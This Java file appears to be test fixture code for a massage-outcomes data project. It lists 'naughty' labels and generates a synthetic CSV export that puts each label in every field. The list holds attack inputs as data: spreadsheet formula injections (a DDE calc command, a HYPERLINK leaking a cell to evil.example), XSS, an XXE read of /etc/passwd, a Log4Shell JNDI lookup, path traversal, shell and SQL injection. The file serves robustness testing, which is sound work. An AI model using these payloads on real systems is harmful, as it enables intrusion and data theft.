package org.massageoutcomes.safety;

import java.util.ArrayList;
import java.util.List;

/** Labels that some program somewhere would run, follow, break on or be fooled by; no two alike for those who ignore case. */
final class NaughtyLabels {
    static final List<String> ALL = List.of(
            // a spreadsheet's formulas, in all the ways that they begin
            "=1+1",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"more\")",
            "+2+3",
            "-2+3",
            "@SUM(1;2)",
            "=cmd|'/C calc'!A0",
            "-cmd|'/C calc'!A0",
            "\t=3+3",
            "\r=4+4",
            "\n=5+5",
            "\uff1d6+6",
            "\uff0b7+7",
            "\uff0d8+8",
            "\uff20SUM(9)",
            "\u200b=10+10",
            "\u00a0=11+11",
            " =12+12",
            "\ufeff=13+13",
            "\u202e=14+14",
            "'=15+15",
            "\"=16+16",
            "=\u00bc+17",
            "%0A=18+18",
            "|calc",
            "-1",
            "+1",
            "-0.5",
            "1e5",
            "NaN",
            "-Infinity",
            "TRUE",
            "0x10",
            "007",
            "1/2",
            // markup and templates
            "<script>alert(1)</script>",
            "</script><script>alert(2)</script>",
            "\"><img src=x onerror=alert(3)>",
            "'><svg/onload=alert(4)>",
            "</title></style></svg></text><b>5",
            "<!--",
            "-->",
            "]]>",
            "<![CDATA[6",
            "<?xml?>",
            "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
            "&lt;i&gt;7",
            "&#60;b&#62;8",
            "&nbsp;&amp;&quot;",
            "javascript:alert(9)",
            "data:text/html,<b>10",
            "\" onmouseover=\"alert(11)",
            "' style='x:expression(12)",
            "${7*7}",
            "#{7*7}",
            "{{7*7}}",
            "@{7*7}",
            "${jndi:ldap://evil.example/a}",
            "%{7*7}",
            "<%= 7*7 %>",
            "[[7*7]]",
            "url(http://evil.example/x)",
            "@import 'x'",
            "*/body{display:none}/*",
            "\\3c script\\3e",
            // paths and names that a file system minds
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/shadow",
            "C:\\autoexec.bat",
            "\\\\evil\\share",
            ".",
            "..",
            "~",
            "~root",
            "CON",
            "nul.txt",
            "COM1",
            "a/b",
            "a:b",
            "-rf",
            "--out=/",
            "$(touch x)",
            "`touch y`",
            "; rm -rf ~",
            "a|b",
            "*",
            "?",
            "%2e%2e%2f",
            "file:///etc/passwd",
            ".htaccess",
            "$HOME",
            // a log's and a terminal's
            "one\nwarn: forged",
            "two\r\n2026-01-01 INFO forged",
            "three\u001b[31mred",
            "four\u009b2Jgone",
            "five\u0007\u0008bell",
            "six\u0085next",
            "seven\u2028line\u2029paragraph",
            "%s%n%x%d",
            "{} {}",
            "nine\u007fdel",
            // directions, and what cannot be seen
            "a\u202egpj.exe",
            "b\u2066c\u2069",
            "\u200frtl",
            "d\u200be",
            "f\u00adg",
            "h\ufffei",
            "j\uffffk",
            "l\ue000m",
            "n\udb40\udc41o",
            "\u0627\u0644\u0633\u0644\u0627\u0645",
            "\u05e9\u05dc\u05d5\u05dd",
            "Z\u0351\u036b\u0343a\u0322l",
            "\ud83d\udca5",
            "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
            "\ud835\udd38\ud835\udd39",
            "e\u0301",
            "\u212b",
            "\ufb01",
            "\u0130\u0131",
            "\u00df\u1e9e",
            "\u01c5",
            "\u2063\u2062\u2061p",
            "x".repeat(300),
            "\u0e33".repeat(90),
            // what other programs take for something
            "null",
            "None",
            "undefined",
            "nil",
            "NIL",
            "true",
            "#REF!",
            "#N/A",
            "__proto__",
            "constructor",
            "' OR 1=1 --",
            "1;DROP TABLE clients",
            "\\",
            "\\n",
            "\"",
            "'",
            "`",
            ",",
            ";",
            "a,b;c",
            "\"\"",
            "''",
            "()",
            "_",
            "All conditions",
            "other conditions",
            "Therapeutic",
            "status",
            "<",
            ">",
            "&",
            "\u2212 5",
            "\u2013 6",
            "\u00b1 7");

    private NaughtyLabels() {}

    /**
     * Every label under both arms, ten clients and more each, as every label that an export has; fields in quotes.
     *
     * @param labels of which each is a condition, clinic, movement, …
     */
    static String export(List<String> labels) {
        StringBuilder export = new StringBuilder(
                "client_id,massage_type,session_date,clinic_id,therapist_id,condition,movement,age_band,sex,chronicity,"
                        + "context,pain_before,pain_after,rom_before_deg,rom_after_deg\n");
        for (int label = 0; label < labels.size(); label++) {
            for (int row = 0; row < 48; row++) {
                int client = row % 24;
                List<String> cells = new ArrayList<>(List.of(
                        "C" + label + "x" + client,
                        client % 2 == 0 ? "therapeutic" : "regular",
                        "2026-%02d".formatted(1 + row / 24)));
                for (int column = 0; column < 8; column++) {
                    cells.add(column == 1 ? "T" + client : labels.get(label));
                }
                cells.add(String.valueOf(5 + (client + label) % 5));
                cells.add(String.valueOf((client * 7 + label + row) % 5));
                cells.add(String.valueOf(60 + client));
                cells.add(String.valueOf(62 + client * (client % 2 == 0 ? 1 : 2)));
                cells.forEach(cell -> export.append(cell.equals(cells.get(0)) ? "" : ",")
                        .append('"')
                        .append(cell.replace("\"", "\"\""))
                        .append('"'));
                export.append('\n');
            }
        }
        return export.toString();
    }
}
